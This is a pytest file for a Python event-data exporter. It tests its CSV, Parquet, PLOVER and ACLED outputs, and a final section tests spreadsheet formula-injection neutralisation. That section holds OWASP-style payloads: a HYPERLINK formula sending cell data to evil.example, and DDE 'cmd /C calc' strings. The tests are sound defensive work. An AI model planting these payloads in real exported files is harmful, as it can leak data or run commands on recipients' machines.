"""Exports: every format's columns and values, nulls, empty input, paths vs streams."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from eventwire import export, records
from eventwire.errors import EventwireError, SettingsError
from eventwire.export import ExportError
from eventwire.records import Acled, Actor, Document, Event, Magnitude, Place, When

# The flat columns as the exports promise them; a change here is a change of contract.
COLUMNS = [
    "article_id", "published", "title", "url", "source", "event_id", "event", "mode",
    "context", "quad", "score", "status", "historical", "actor", "actor_country",
    "actor_sector", "recipient", "recipient_country", "recipient_sector", "event_text",
    "span_start", "span_end", "sentence", "date", "date_end", "date_precision", "date_basis",
    "location", "location_country", "admin1", "latitude", "longitude", "geo_precision", "dead",
    "dead_qualifier", "injured", "injured_qualifier", "arrested", "abducted", "cameo",
    "acled_event_type", "acled_sub_event_type", "confidence",
]  # fmt: skip
# ACLED's columns in ACLED's order (ACLED codebook); a change here breaks ACLED users.
ACLED_COLUMNS = [
    "event_id_cnty", "event_date", "year", "time_precision", "disorder_type", "event_type",
    "sub_event_type", "actor1", "assoc_actor_1", "inter1", "actor2", "assoc_actor_2",
    "inter2", "interaction", "civilian_targeting", "iso", "region", "country", "admin1",
    "admin2", "admin3", "location", "latitude", "longitude", "geo_precision", "source",
    "source_scale", "notes", "fatalities", "tags", "timestamp",
]  # fmt: skip
PLOVER_FIELDS = [
    "id", "has_event", "date", "enddate", "actor", "recipient", "event", "mode", "context",
    "quad_code", "event_scale", "event_text", "event_loc", "size", "text_info", "cite_info",
    "coder", "coded_date", "coded_time", "eventwire",
]  # fmt: skip
CODED_AT = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)


def _event(id: str, event: str, quad: str, score: float, **fields: object) -> Event:
    defaults: dict[str, object] = {"event_text": "x", "span": (0, 1), "sentence": 0}
    return Event(id=id, event=event, quad=quad, score=score, confidence=0.5, **(defaults | fields))


def _documents() -> list[Document]:
    """Invented articles: a clash and an announced withdrawal; a visit, a protest and
    arrests; and an article with no event."""
    clash = _event(
        "a1-e1",
        "ASSAULT",
        "material conflict",
        -9.0,
        mode="firearms",
        context=["military"],
        actor=[
            Actor(text="rebels", name="Vell Front", country="SDN", sector="REB", span=(0, 6)),
            Actor(text="allied gunmen", sector="UAF", span=(11, 24)),
        ],
        recipient=[Actor(text="the army", country="SDN", sector="MIL", span=(40, 48))],
        event_text="attacked",
        span=(25, 33),
        sentence=1,
        date=When(text="on Sunday", value="2025-03-09", precision="day", span=(50, 59)),
        location=Place(
            text="Tamsala",
            name="Tamsala",
            country="SDN",
            admin1="North Darfur",
            lat=13.25,
            lon=25.5,
            precision="town",
            span=(63, 70),
        ),
        dead=Magnitude(value=12, qualifier="at least"),
        injured=Magnitude(value=30),
        cameo="190",
        acled=Acled(event_type="Battles", sub_event_type="Armed clash"),
    )
    withdrawal = _event(
        "a1-e2",
        "RETREAT",
        "material cooperation",
        8.0,
        mode="withdraw",
        status="future",
        actor=[Actor(text="the army", country="SDN", sector="MIL", span=(100, 108))],
        event_text="will withdraw",
        span=(109, 122),
        sentence=3,
        date=When(text="in April", value="2025-04", precision="month", span=(130, 138)),
        cameo="0872",
        acled=Acled(event_type="Strategic developments", sub_event_type="Agreement"),
    )
    visit = _event(
        "a2-e1",
        "CONSULT",
        "verbal cooperation",
        4.0,
        mode="visit",
        actor=[Actor(text="the Russian envoy", name="Russia", country="RUS", span=(0, 17))],
        event_text="visited",
        span=(18, 25),
        location=Place(text="Lake Ombra", span=(26, 36)),
        cameo="042",
    )
    protest = _event(
        "a2-e2",
        "PROTEST",
        "material conflict",
        -5.0,
        mode="demo",
        actor=[Actor(text="students", country="SDN", sector="CVL", span=(50, 58))],
        event_text="marched",
        span=(59, 66),
        sentence=2,
        date=When(text="last week", value="2025-02-24", end="2025-03-02", precision="week"),
        location=Place(
            text="outside Tamsala",
            name="outside Tamsala",
            country="SDN",
            admin1="North Darfur",
            lat=13.25,
            lon=25.5,
            precision="region",
            span=(67, 82),
        ),
        acled=Acled(event_type="Protests", sub_event_type="Peaceful protest"),
    )
    arrests = _event(
        "a2-e3",
        "COERCE",
        "material conflict",
        -7.0,
        mode="arrest",
        historical=True,
        actor=[Actor(text="police", country="SDN", sector="COP", span=(90, 96))],
        event_text="arrested",
        span=(97, 105),
        sentence=4,
        date=When(text="in November 2024", value="2024-11", precision="month"),
        location=Place(
            text="Sudan", name="Sudan", country="SDN", precision="country", span=(120, 125)
        ),
        arrested=Magnitude(value=40, qualifier="about"),
        acled=Acled(event_type="Strategic developments", sub_event_type="Arrests"),
    )
    return [
        Document(
            id="art-1",
            title="Fighting near Tamsala",
            url="https://news.example/tamsala",
            source="Example Wire",
            published=dt.date(2025, 3, 10),
            events=[clash, withdrawal],
        ),
        Document(id="art-2", published=dt.date(2025, 3, 12), events=[visit, protest, arrests]),
        Document(id="art-3", title="A quiet day"),
    ]


def _text(fmt: str, documents: list[Document] | None = None) -> tuple[int, str]:
    stream = io.StringIO()
    documents = _documents() if documents is None else documents
    count = export.write(documents, fmt, stream, coded_at=CODED_AT)
    return count, stream.getvalue()


def _csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text))
    return list(reader.fieldnames or []), list(reader)


def test_formats_and_columns() -> None:
    assert export.FORMATS == ("jsonl", "csv", "parquet", "plover", "acled")
    assert list(export.COLUMNS) == COLUMNS
    assert list(export.ACLED_COLUMNS) == ACLED_COLUMNS


# --- jsonl ---------------------------------------------------------------------------


def test_jsonl_is_the_output_contract() -> None:
    count, text = _text("jsonl")
    lines = text.splitlines()
    assert count == 3
    assert len(lines) == 3
    assert [Document.model_validate_json(line) for line in lines] == _documents()
    assert lines[0] == _documents()[0].to_json()


# --- csv -----------------------------------------------------------------------------


def test_csv_one_row_per_event_with_flat_columns() -> None:
    count, text = _text("csv")
    header, rows = _csv_rows(text)
    assert count == 5
    assert header == COLUMNS
    assert [row["event_id"] for row in rows] == ["a1-e1", "a1-e2", "a2-e1", "a2-e2", "a2-e3"]
    assert "\r" not in text
    clash = rows[0]
    assert clash == {
        "article_id": "art-1",
        "published": "2025-03-10",
        "title": "Fighting near Tamsala",
        "url": "https://news.example/tamsala",
        "source": "Example Wire",
        "event_id": "a1-e1",
        "event": "ASSAULT",
        "mode": "firearms",
        "context": "military",
        "quad": "material conflict",
        "score": "-9.0",
        "status": "occurred",
        "historical": "false",
        "actor": "rebels;allied gunmen",
        "actor_country": "SDN;",
        "actor_sector": "REB;UAF",
        "recipient": "the army",
        "recipient_country": "SDN",
        "recipient_sector": "MIL",
        "event_text": "attacked",
        "span_start": "25",
        "span_end": "33",
        "sentence": "1",
        "date": "2025-03-09",
        "date_end": "",
        "date_precision": "day",
        "date_basis": "text",
        "location": "Tamsala",
        "location_country": "SDN",
        "admin1": "North Darfur",
        "latitude": "13.25",
        "longitude": "25.5",
        "geo_precision": "town",
        "dead": "12",
        "dead_qualifier": "at least",
        "injured": "30",
        "injured_qualifier": "",
        "arrested": "",
        "abducted": "",
        "cameo": "190",
        "acled_event_type": "Battles",
        "acled_sub_event_type": "Armed clash",
        "confidence": "0.5",
    }


def test_csv_nulls_and_partial_dates() -> None:
    _, rows = _csv_rows(_text("csv")[1])
    visit = rows[2]
    assert visit["title"] == visit["url"] == visit["source"] == ""
    assert visit["recipient"] == visit["recipient_country"] == visit["actor_sector"] == ""
    assert visit["date"] == visit["date_precision"] == visit["date_basis"] == ""
    assert visit["location"] == "Lake Ombra"  # unresolved: its words, no coordinates
    assert visit["latitude"] == visit["geo_precision"] == visit["location_country"] == ""
    assert visit["context"] == visit["dead"] == visit["acled_event_type"] == ""
    withdrawal, protest = rows[1], rows[3]
    assert (withdrawal["date"], withdrawal["date_precision"]) == ("2025-04-01", "month")
    assert (protest["date"], protest["date_end"]) == ("2025-02-24", "2025-03-02")


def test_csv_can_be_read_by_pandas() -> None:
    frame = pd.read_csv(io.StringIO(_text("csv")[1]))
    assert list(frame.columns) == COLUMNS
    assert frame["historical"].tolist() == [False, False, False, False, True]
    assert frame["dead"].tolist()[0] == 12


# --- parquet -------------------------------------------------------------------------


def test_parquet_types(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    assert export.write(_documents(), "parquet", path) == 5
    schema = pq.read_schema(path)
    assert schema.names == COLUMNS
    types = dict(zip(schema.names, schema.types, strict=True))
    assert types["published"] == types["date"] == types["date_end"] == pa.date32()
    assert types["dead"] == types["span_start"] == types["arrested"] == pa.int64()
    assert types["score"] == types["latitude"] == types["confidence"] == pa.float64()
    assert types["historical"] == pa.bool_()
    assert types["actor"] == types["cameo"] == pa.string()


def test_parquet_round_trip_with_pandas(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    export.write(_documents(), "parquet", path)
    frame = pd.read_parquet(path)
    assert list(frame.columns) == COLUMNS
    assert len(frame) == 5
    assert frame["historical"].dtype == bool
    assert frame["score"].dtype == "float64"
    # the file's pandas metadata: nullable integers and typed dates, not floats and objects
    assert frame["span_start"].dtype == "Int64"
    assert frame["dead"].dtype == "Int64"
    for column in ("published", "date", "date_end"):
        assert str(frame[column].dtype) == "date32[day][pyarrow]"
    assert frame["date"].dt.year.tolist()[:2] == [2025, 2025]
    assert frame["cameo"].tolist()[0] == "190"
    assert frame["date"].tolist()[:2] == [dt.date(2025, 3, 9), dt.date(2025, 4, 1)]
    assert frame["date"].isna().tolist() == [False, False, True, False, False]
    assert frame["dead"].tolist()[0] == 12
    assert frame["dead"].isna().tolist() == [False, True, True, True, True]
    assert frame["actor_country"].tolist()[0] == "SDN;"
    assert pd.isna(frame["recipient"][2])
    typed = pd.read_parquet(path, dtype_backend="pyarrow")
    assert str(typed["dead"].dtype) == "int64[pyarrow]"
    assert str(typed["date"].dtype) == "date32[day][pyarrow]"
    assert typed["dead"][0] == 12
    assert pd.isna(typed["dead"][1])


def test_parquet_round_trip_with_duckdb(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    export.write(_documents(), "parquet", path)
    source = f"read_parquet('{path}')"
    types = {
        name: kind for name, kind, *_ in duckdb.sql(f"describe select * from {source}").fetchall()
    }
    assert list(types) == COLUMNS
    assert types["date"] == types["published"] == "DATE"
    assert types["dead"] == types["sentence"] == "BIGINT"
    assert types["score"] == types["longitude"] == "DOUBLE"
    assert types["historical"] == "BOOLEAN"
    assert types["event"] == "VARCHAR"
    rows = duckdb.sql(
        f"select event_id, date, dead, latitude, historical from {source} order by event_id"
    ).fetchall()
    assert rows == [
        ("a1-e1", dt.date(2025, 3, 9), 12, 13.25, False),
        ("a1-e2", dt.date(2025, 4, 1), None, None, False),
        ("a2-e1", None, None, None, False),
        ("a2-e2", dt.date(2025, 2, 24), None, 13.25, False),
        ("a2-e3", dt.date(2024, 11, 1), None, None, True),
    ]
    assert duckdb.sql(f"select sum(arrested), count(*) from {source}").fetchall() == [(40, 5)]


def test_parquet_is_written_in_row_groups(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    with path.open("wb") as stream:
        assert export.write_parquet(_documents(), stream, batch_size=2) == 5
    assert pq.ParquetFile(path).num_row_groups == 3


# --- plover --------------------------------------------------------------------------


def _plover() -> list[dict]:
    count, text = _text("plover")
    records = [json.loads(line) for line in text.splitlines()]
    assert count == len(records) == 5
    return records


def test_plover_record_uses_the_manual_field_names() -> None:
    clash = _plover()[0]
    assert list(clash) == PLOVER_FIELDS
    assert clash["id"] == "a1-e1"
    assert clash["date"] == "2025-03-09"
    assert clash["enddate"] is None
    assert clash["actor"] == [
        {"code": "SDN", "sector": "REB", "entity_text": "rebels", "identifier_text": "Vell Front"},
        {"code": None, "sector": "UAF", "entity_text": "allied gunmen", "identifier_text": None},
    ]
    assert clash["recipient"][0]["code"] == "SDN"
    assert clash["event"] == ["ASSAULT"]
    assert clash["mode"] == ["firearms"]
    assert clash["context"] == ["military"]
    assert clash["quad_code"] == 4
    assert clash["event_scale"] == -9.0
    assert clash["event_text"] == ["attacked"]
    assert clash["has_event"] is True
    assert clash["event_loc"] == {
        "extracted_place": "Tamsala",
        "resolved_place": "Tamsala",
        "geonameid": None,  # an invented town: no GeoNames record
        "lat": 13.25,
        "lon": 25.5,
        "city": "Tamsala",
        "province": "North Darfur",
        "country": "Sudan",
        "country_code": "SDN",
        "feature_class": None,
        "feature_code": None,
        "resolution": 4,
    }
    assert clash["size"] == {"dead": 12, "injured": 30, "arrested": None}
    assert clash["text_info"] == {"sequence": 1, "start": 25, "end": 33}
    assert clash["cite_info"] == {
        "citation": "art-1",
        "title": "Fighting near Tamsala",
        "url": "https://news.example/tamsala",
        "language": "en",
        "publication": "Example Wire",
        "coder": "eventwire 0.1.0",
        "codebook": "plover-2.0",
    }
    assert (clash["coded_date"], clash["coded_time"]) == ("2026-01-02", "03:04:05Z")
    assert clash["eventwire"]["status"] == "occurred"
    assert clash["eventwire"]["dead_qualifier"] == "at least"
    assert clash["eventwire"]["acled_event_type"] == "Battles"


def test_plover_codes_an_announced_withdrawal_as_concede() -> None:
    """The manual: "announced...would withdraw troops" is RETREAT + future, coded CONCEDE."""
    withdrawal = _plover()[1]
    assert withdrawal["event"] == ["CONCEDE"]
    assert withdrawal["mode"] == []
    assert withdrawal["quad_code"] == 1
    assert withdrawal["event_scale"] == 4.5  # CONCEDE's score
    assert withdrawal["context"] == []  # the category says it is announced
    assert withdrawal["date"] == "2025-04-01"
    extras = withdrawal["eventwire"]
    assert (extras["event"], extras["mode"], extras["status"]) == ("RETREAT", "withdraw", "future")
    assert extras["date_precision"] == "month"


def test_plover_nulls_and_date_from_publication() -> None:
    records = _plover()
    visit = records[2]
    assert visit["date"] == "2025-03-12"  # no date in the text: the publication date
    assert visit["eventwire"]["date_basis"] == "published"
    assert visit["recipient"] == []
    assert visit["size"] is None
    assert visit["event_loc"]["resolved_place"] is None
    assert visit["event_loc"]["country"] is None
    assert visit["cite_info"]["title"] is None
    protest = records[3]
    assert (protest["date"], protest["enddate"]) == ("2025-02-24", "2025-03-02")
    assert protest["event_loc"]["resolution"] == 3  # outside a town: district level
    assert protest["event_loc"]["city"] is None
    assert records[4]["event_loc"]["resolution"] == 1


# --- acled ---------------------------------------------------------------------------


def test_acled_rows_only_for_events_acled_records() -> None:
    count, text = _text("acled")
    header, rows = _csv_rows(text)
    assert header == ACLED_COLUMNS
    # the announced withdrawal did not happen; the visit has no ACLED coding
    assert [row["sub_event_type"] for row in rows] == ["Armed clash", "Peaceful protest", "Arrests"]
    assert count == 3
    ids = [row.pop("event_id_cnty") for row in rows]
    assert all(re.fullmatch(r"SDN\d{1,15}", i) for i in ids) and len(set(ids)) == 3
    assert ids == [r["event_id_cnty"] for r in _csv_rows(_text("acled")[1])[1]]  # stable
    assert rows[0] == {
        "event_date": "2025-03-09",
        "year": "2025",
        "time_precision": "1",
        "disorder_type": "Political violence",
        "event_type": "Battles",
        "sub_event_type": "Armed clash",
        "actor1": "Vell Front",
        "assoc_actor_1": "Unidentified Armed Group (Sudan)",
        "inter1": "2",
        "actor2": "Military Forces of Sudan",
        "assoc_actor_2": "",
        "inter2": "1",
        "interaction": "12",
        "civilian_targeting": "",
        "iso": "729",
        "region": "Northern Africa",
        "country": "Sudan",
        "admin1": "North Darfur",
        "admin2": "",
        "admin3": "",
        "location": "Tamsala",
        "latitude": "13.25",
        "longitude": "25.5",
        "geo_precision": "1",
        "source": "Example Wire",
        "source_scale": "",
        "notes": "attacked",
        "fatalities": "12",
        "tags": "",
        "timestamp": str(int(CODED_AT.timestamp())),
    }


def test_acled_time_and_geo_precision() -> None:
    _, rows = _csv_rows(_text("acled")[1])
    protest, arrests = rows[1], rows[2]
    assert (protest["event_date"], protest["time_precision"]) == ("2025-02-24", "2")
    assert protest["geo_precision"] == "2"  # outside a town
    assert (protest["actor1"], protest["inter1"]) == ("Protesters (Sudan)", "6")
    assert protest["actor2"] == protest["inter2"] == protest["source"] == ""
    assert (protest["interaction"], protest["disorder_type"]) == ("60", "Demonstrations")
    assert protest["tags"] == "crowd size=no report"
    assert protest["fatalities"] == "0"
    assert (arrests["event_date"], arrests["year"], arrests["time_precision"]) == (
        "2024-11-01",
        "2024",
        "3",
    )
    assert arrests["geo_precision"] == "3"
    assert (arrests["actor1"], arrests["inter1"], arrests["interaction"]) == (
        "Police Forces of Sudan",
        "1",
        "10",
    )
    assert arrests["disorder_type"] == "Strategic developments"


def test_acled_date_rules() -> None:
    published = dt.date(2025, 3, 10)
    fallback = When(text="", value="2025-03-10", precision="day", basis="published")
    assert export.acled_date(fallback, published) == (published, 2)
    assert export.acled_date(None, published) == (published, 2)
    assert export.acled_date(None, None) == (None, None)
    long_range = When(text="", value="2025-01-05", end="2025-02", precision="day")
    assert export.acled_date(long_range, published) == (dt.date(2025, 1, 5), 3)
    year = When(text="in 2023", value="2023", precision="year")
    assert export.acled_date(year, published) == (dt.date(2023, 1, 1), 3)


def test_geo_precision_of_a_province() -> None:
    province = Place(
        text="North Darfur",
        name="North Darfur",
        admin1="North Darfur",
        precision="region",
        span=(0, 12),
    )
    assert export.acled_geo_precision(province) == 3
    near = Place(text="Tamsala", name="Tamsala", precision="region", span=(0, 7))
    assert export.acled_geo_precision(near) == 2  # "near Tamsala": no admin1 needed
    assert export.acled_geo_precision(None) is None
    event = _event("p-e1", "PROTEST", "material conflict", -5.0, location=province)
    record = export.plover_record(Document(id="p"), event)
    assert record["event_loc"]["resolution"] == 2  # the manual's province level
    assert record["date"] is None  # no date and no publication date


# --- helpers -------------------------------------------------------------------------


def test_partial_dates() -> None:
    assert records.first_day("2024") == dt.date(2024, 1, 1)
    assert records.first_day("2024-02") == dt.date(2024, 2, 1)
    assert records.first_day("2024-02-10") == dt.date(2024, 2, 10)
    assert records.first_day("soon") is None
    assert records.first_day(None) is None
    assert records.last_day("2024") == dt.date(2024, 12, 31)
    assert records.last_day("2024-02") == dt.date(2024, 2, 29)
    assert records.last_day("2024-02-10") == dt.date(2024, 2, 10)


def test_country_names() -> None:
    assert export.country_name("SDN") == "Sudan"
    assert export.country_name("RUS") == "Russia"  # eventwire's display name
    assert export.country_name("IGO") == "IGO"  # not a country: the code


# --- empty input ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_empty_csv_has_the_header_only(fmt: str) -> None:
    count, text = _text(fmt, [])
    header = COLUMNS if fmt == "csv" else ACLED_COLUMNS
    assert count == 0
    assert text == ",".join(header) + "\n"


@pytest.mark.parametrize("fmt", ["jsonl", "plover"])
def test_empty_json_lines_is_empty(fmt: str) -> None:
    assert _text(fmt, []) == (0, "")


def test_documents_without_events_give_no_rows() -> None:
    count, text = _text("csv", [Document(id="quiet")])
    assert count == 0
    assert text.count("\n") == 1
    assert _text("jsonl", [Document(id="quiet")])[0] == 1


def test_empty_parquet_has_the_schema_and_no_rows(tmp_path: Path) -> None:
    path = tmp_path / "empty.parquet"
    assert export.write([], "parquet", path) == 0
    assert pq.read_schema(path).names == COLUMNS
    frame = pd.read_parquet(path)
    assert list(frame.columns) == COLUMNS
    assert len(frame) == 0
    assert duckdb.sql(f"select count(*) from read_parquet('{path}')").fetchall() == [(0,)]


# --- destinations --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "plover", "acled"])
def test_path_and_stream_give_the_same_text(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"out.{fmt}"
    assert export.write(_documents(), fmt, str(path), coded_at=CODED_AT) == _text(fmt)[0]
    assert path.read_bytes() == _text(fmt)[1].encode("utf-8")
    binary = io.BytesIO()
    export.write(_documents(), fmt, binary, coded_at=CODED_AT)
    assert not binary.closed
    assert binary.getvalue() == path.read_bytes()


def test_parquet_to_binary_streams(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    export.write(_documents(), "parquet", path)
    binary = io.BytesIO()
    assert export.write(_documents(), "parquet", binary) == 5
    assert not binary.closed
    assert pq.read_table(io.BytesIO(binary.getvalue())).equals(pq.read_table(path))
    text = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")  # like sys.stdout: has .buffer
    export.write(_documents(), "parquet", text)
    assert pq.read_table(io.BytesIO(text.buffer.getvalue())).num_rows == 5


def test_parquet_to_a_text_only_stream_is_an_error() -> None:
    with pytest.raises(ExportError, match=r"\[E062\]"):
        export.write(_documents(), "parquet", io.StringIO())


def test_missing_directory_is_a_coded_error(tmp_path: Path) -> None:
    path = tmp_path / "absent" / "events.csv"
    with pytest.raises(ExportError, match=r"\[E060\] cannot write to .*absent") as info:
        export.write(_documents(), "csv", path)
    assert isinstance(info.value, EventwireError)


def test_a_directory_is_no_file(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"\[E060\]"):
        export.write(_documents(), "jsonl", tmp_path)


def test_refused_permission_is_a_coded_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As root every directory is writable, so the refusal is simulated here; the test
    below checks a real one where it can."""

    def refuse(self: Path, *args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "open", refuse)
    with pytest.raises(ExportError, match=r"\[E060\] .*Permission denied"):
        export.write(_documents(), "csv", tmp_path / "events.csv")


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes anywhere")
def test_unwritable_directory_is_a_coded_error(tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        with pytest.raises(ExportError, match=r"\[E060\]"):
            export.write(_documents(), "parquet", locked / "events.parquet")
    finally:
        locked.chmod(0o700)


def test_unknown_format_lists_the_formats() -> None:
    with pytest.raises(SettingsError, match=r"\[E061\] .*'xlsx'.*jsonl, csv, parquet, plover"):
        export.write(_documents(), "xlsx", io.StringIO())


# --- spreadsheet safety: formula injection -------------------------------------------

# One payload per character that makes a spreadsheet read a cell as a formula (OWASP).
PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
# The text columns each hostile document fills with its payload, in csv and in acled.
HOSTILE_CSV = ("article_id", "title", "source", "event_id", "actor", "event_text", "location")
HOSTILE_ACLED = ("actor1", "actor2", "location", "source", "notes")


def _hostile(name: str) -> Document:
    """An article whose id, title, source, event id, actor words, event words and place
    all begin with the payload `name`, with a negative score and negative coordinates."""
    payload = PAYLOADS[name]
    event = _event(
        f"{payload} {name}-e1",
        "ASSAULT",
        "material conflict",
        -9.5,
        actor=[
            Actor(text=f"{payload} gunmen", name=f"{payload} gunmen", sector="UAF", span=(0, 6))
        ],
        recipient=[
            Actor(
                text=f"{payload} villagers",
                name=f"{payload} villagers",
                sector="CVL",
                span=(20, 29),
            )
        ],
        event_text=f"{payload} attacked",
        location=Place(text=f"{payload} town", country="CHL", lat=-33.9, lon=-70.6, span=(40, 44)),
        dead=Magnitude(value=3),
        acled=Acled(event_type="Violence against civilians", sub_event_type="Attack"),
    )
    return Document(
        id=f"{payload} {name}",
        title=f"{payload} title",
        source=f"{payload} wire",
        published=dt.date(2025, 3, 10),
        events=[event],
    )


def _hostile_documents() -> list[Document]:
    return [_hostile(name) for name in PAYLOADS]


# What follows the payload in each column (`_hostile`).
_SUFFIX = {
    "article_id": "{name}",
    "event_id": "{name}-e1",
    "event_id_cnty": "{name}-e1",
    "title": "title",
    "source": "wire",
    "actor": "gunmen",
    "actor1": "gunmen",
    "actor2": "villagers",
    "event_text": "attacked",
    "notes": "attacked",
    "location": "town",
}


def _expected(column: str) -> list[str]:
    """What each hostile document wrote into a column, in order."""
    return [f"{PAYLOADS[name]} {_SUFFIX[column].format(name=name)}" for name in PAYLOADS]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("  =1+2", "'  =1+2"),  # after leading whitespace: importers may trim it
        ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-9.5", "-9.5"),  # a plain number stays a number
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        (" -70.6", " -70.6"),
        ("-\u0663", "'-\u0663"),  # not ASCII digits: no number to a spreadsheet
        ("Reuters", "Reuters"),
        ("a=b", "a=b"),
        ("'=1+2", "'=1+2"),  # already text to a spreadsheet
        ("", ""),
        (None, None),
        (-9.5, -9.5),  # numbers are never text
        (-70, -70),
    ],
)
def test_neutralize_formula_rule(value: object, safe: object) -> None:
    assert export.neutralize_formula(value) == safe


@pytest.mark.parametrize(("fmt", "columns"), [("csv", HOSTILE_CSV), ("acled", HOSTILE_ACLED)])
def test_csv_cells_are_safe_for_spreadsheets(fmt: str, columns: tuple[str, ...]) -> None:
    count, text = _text(fmt, _hostile_documents())
    _, rows = _csv_rows(text)
    assert count == len(rows) == len(PAYLOADS)  # a carriage return split no row
    for column in columns:
        assert [row[column] for row in rows] == ["'" + v for v in _expected(column)], column
    frame = pd.read_csv(io.StringIO(text))
    assert frame["latitude"].dtype == frame["longitude"].dtype == "float64"
    assert set(frame["latitude"]) == {-33.9}
    assert set(frame["longitude"]) == {-70.6}
    if fmt == "csv":
        assert frame["score"].dtype == "float64"
        assert set(frame["score"]) == {-9.5}
        assert frame["dead"].tolist() == [3] * len(PAYLOADS)
    else:
        assert frame["fatalities"].dtype == "int64"
    for column in columns:
        assert all(cell.startswith("'") for cell in frame[column]), column


@pytest.mark.parametrize(("fmt", "columns"), [("csv", HOSTILE_CSV), ("acled", HOSTILE_ACLED)])
def test_raw_csv_writes_cells_unchanged(fmt: str, columns: tuple[str, ...]) -> None:
    stream = io.StringIO()
    assert export.write(_hostile_documents(), fmt, stream, raw_csv=True) == len(PAYLOADS)
    _, rows = _csv_rows(stream.getvalue())
    for column in columns:
        assert [row[column] for row in rows] == _expected(column), column
    frame = pd.read_csv(io.StringIO(stream.getvalue()))
    assert frame["longitude"].dtype == "float64"
    assert frame["source"].tolist() == _expected("source")


def test_formula_cells_are_quoted_as_owasp_asks() -> None:
    """OWASP's two examples, and a separator inside a cell: text cells are always quoted,
    so a spreadsheet that splits on ";" cannot start a new cell at "=1+2"."""
    doc = Document(
        id="owasp",
        title='=1+2";=1+2',
        source="=1+2'\" ;,=1+2",
        url="Reuters;=1+2",
        events=[_event("owasp-e1", "ASSAULT", "material conflict", -9.5)],
    )
    _, text = _text("csv", [doc])
    line = text.splitlines()[1]
    assert '"\'=1+2"";=1+2"' in line
    assert '"\'=1+2\'"" ;,=1+2"' in line
    assert '"Reuters;=1+2"' in line
    assert ",-9.5," in line  # numbers are written bare
    _, rows = _csv_rows(text)
    assert rows[0]["title"] == "'=1+2\";=1+2"
    assert rows[0]["url"] == "Reuters;=1+2"


def test_json_and_parquet_keep_the_text_as_it_is(tmp_path: Path) -> None:
    documents = _hostile_documents()
    lines = _text("jsonl", documents)[1].splitlines()
    assert [Document.model_validate_json(line) for line in lines] == documents
    plover = [json.loads(line) for line in _text("plover", documents)[1].splitlines()]
    assert [r["cite_info"]["title"] for r in plover] == _expected("title")
    path = tmp_path / "events.parquet"
    export.write(documents, "parquet", path, raw_csv=False)
    assert pq.read_table(path).column("title").to_pylist() == _expected("title")
